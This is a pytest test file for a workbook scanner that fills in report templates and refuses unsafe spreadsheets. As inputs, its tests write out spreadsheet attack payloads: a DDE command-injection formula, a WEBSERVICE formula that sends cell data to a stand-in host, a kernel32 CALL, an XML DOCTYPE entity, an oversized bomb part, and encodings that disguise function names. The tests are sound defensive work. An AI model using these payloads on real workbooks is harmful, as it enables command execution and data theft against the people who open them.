"""Workbooks of the town's: filled in as they were drawn; nothing in them runs or leads elsewhere."""

import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.chart import BarChart, Reference
from openpyxl.styles import Font
from openpyxl.workbook.defined_name import DefinedName

from server.reports.tables import workbooks
from server.reports.tables.workbooks import TableWrong, Value, fill_in, scan


def a_book(**cells) -> bytes:
    book = Workbook()
    for place, value in cells.items():
        book.active[place] = value
    return bytes_of(book)


def bytes_of(book) -> bytes:
    target = io.BytesIO()
    book.save(target)
    return target.getvalue()


def wrongs(data: bytes):
    with pytest.raises(TableWrong) as wrong:
        scan(data)
    return [(one.kind, one.sheet, one.cell) for one in wrong.value.wrongs]


def with_part(data: bytes, name: str, content: bytes) -> bytes:
    target = io.BytesIO(data)
    with zipfile.ZipFile(target, "a") as archive:
        archive.writestr(name, content)
    return target.getvalue()


def test_marks_are_found_where_they_stand():
    found = scan(a_book(A1="比率", B1="{{I2.rate}}", C3="{{I2.numerator}} of {{I2.denominator}}"))
    assert [(one.cell, one.text) for one in found.marks] == [
        ("B1", "I2.rate"),
        ("C3", "I2.numerator"),
        ("C3", "I2.denominator"),
    ]
    assert found.sheets[0].rows[0] == ["比率", "{{I2.rate}}", ""]


def test_a_mark_alone_becomes_a_number_and_one_in_a_text_is_written_out():
    book = Workbook()
    book.active["A1"], book.active["A2"], book.active["A3"] = "{{I2.rate}}", "{{ I2.numerator }}人", "=SUM(A5:A6)"
    book.active["A1"].font = Font(bold=True, name="SimSun")
    chart = BarChart()
    chart.add_data(Reference(book.active, min_col=1, min_row=5, max_row=6))
    book.active.add_chart(chart, "D2")
    values = {"I2.rate": Value("57%", 0.57, percent=True), " I2.numerator ": Value("20", 20)}
    made = load_workbook(io.BytesIO(fill_in(bytes_of(book), values))).active
    assert (made["A1"].value, made["A1"].number_format, made["A1"].font.name) == (0.57, "0%", "SimSun")
    assert (made["A2"].value, made["A3"].value) == ("20人", "=SUM(A5:A6)")
    assert len(made._charts) == 1


def test_no_text_that_is_filled_in_becomes_a_formula():
    made = fill_in(a_book(A1="{{town}}", A2="{{town}}{{month}}"), {"town": Value("=1+1"), "month": Value("2")})
    sheet = load_workbook(io.BytesIO(made)).active
    assert [sheet[one].data_type for one in ("A1", "A2")] == ["s", "s"]


@pytest.mark.parametrize(
    "formula",
    [
        '=HYPERLINK("https://example.test")',
        '=WEBSERVICE("https://example.test/?"&A1)',
        "=cmd|' /C calc'!A0",
        "=[other.xlsx]Sheet1!A1",
        '=sum(A1)+webservice("x")',
        '=CALL("kernel32","x","y")',
        "={{I2.rate}}+1",
    ],
)
def test_a_formula_that_leads_elsewhere_is_refused_with_its_cell(formula):
    assert wrongs(a_book(B7=formula)) == [("formula", "Sheet", "B7")]


def test_sums_are_taken():
    assert scan(a_book(A1="=IFERROR(ROUND(SUM(B1:B9)/AVERAGE(C1:C9),2),0)")).marks == []


@pytest.mark.parametrize(
    "part",
    ["xl/vbaProject.bin", "xl/externalLinks/externalLink1.xml", "xl/embeddings/oleObject1.bin", "xl/connections.xml"],
)
def test_what_runs_or_links_is_refused(part):
    assert wrongs(with_part(a_book(A1="x"), part, b"<x/>")) == [("runs", "", "")]


def test_a_link_and_a_name_that_calls_a_function_are_refused():
    book = Workbook()
    book.active["A1"].hyperlink = "https://example.test"
    assert {one[0] for one in wrongs(bytes_of(book))} == {"runs"}
    named = b'<workbook><definedNames><definedName name="x">WEBSERVICE("https://example.test")</definedName></definedNames></workbook>'
    assert wrongs(with_part(a_book(A1="x"), "xl/more.xml", named)) == [("runs", "", "")]


def test_a_doctype_a_bomb_and_what_is_no_workbook_are_refused():
    doctype = with_part(a_book(A1="x"), "xl/more.xml", b'<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>')
    assert wrongs(doctype) == [("damaged", "", "")]
    assert wrongs(with_part(a_book(A1="x"), "xl/more.xml", b"0" * 51_000_000))[0][0] in ("damaged", "large")
    assert wrongs(b"PK nothing") == [("damaged", "", "")]
    assert wrongs(b"") == [("damaged", "", "")]
    assert wrongs(b"x" * (workbooks.LARGEST + 1)) == [("large", "", "")]
    assert wrongs(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"x" * 600) == [("not_excel", "", "")]


def test_a_brace_that_is_missing_is_told_with_its_cell():
    assert wrongs(a_book(A1="{{I2.rate}", A2="ok")) == [("braces", "Sheet", "A1")]


def test_a_table_that_is_too_large_is_told_with_its_sheet():
    assert wrongs(a_book(A501="x")) == [("too_large", "Sheet", "")]


def test_a_process_that_takes_too_long_or_dies_harms_nobody(monkeypatch):
    monkeypatch.setattr(workbooks, "WALL_SECONDS", 0.01)
    assert wrongs(a_book(A1="x")) == [("damaged", "", "")]


def rewritten(data: bytes, name: str, change) -> bytes:
    """The same workbook with another content of one part."""
    target = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(target, "w") as archive:
        for one in source.infolist():
            content = source.read(one)
            archive.writestr(one, change(content) if one.filename == name else content)
    return target.getvalue()


@pytest.mark.parametrize(
    "change",
    [
        lambda content: content.replace(b'TargetMode="External"', b"TargetMode='External'"),
        lambda content: content.replace(b'TargetMode="External"', b'TargetMode = "Ext&#101;rnal"'),
        lambda content: content.decode().encode("utf-16"),
    ],
)
def test_a_link_is_refused_however_its_part_is_written(change):
    book = Workbook()
    book.active["A1"].hyperlink = "https://example.test"
    data = rewritten(bytes_of(book), "xl/worksheets/_rels/sheet1.xml.rels", change)
    assert {one[0] for one in wrongs(data)} == {"runs"}


@pytest.mark.parametrize(
    "called", ["WEBSERVIC&#69;(1)", "WEBSERVICE<!-- -->(1)", "<![CDATA[WEBSERVICE(1)]]>", "1+<![CDATA[HYPERLINK]]>(1)"]
)
def test_a_name_that_calls_a_function_is_refused_however_it_is_written(called):
    book = Workbook()
    book.defined_names["x"] = DefinedName("x", attr_text="PLACE")
    book.active["A1"] = "=x"
    data = rewritten(bytes_of(book), "xl/workbook.xml", lambda content: content.replace(b"PLACE", called.encode()))
    assert wrongs(data) == [("runs", "", "")]
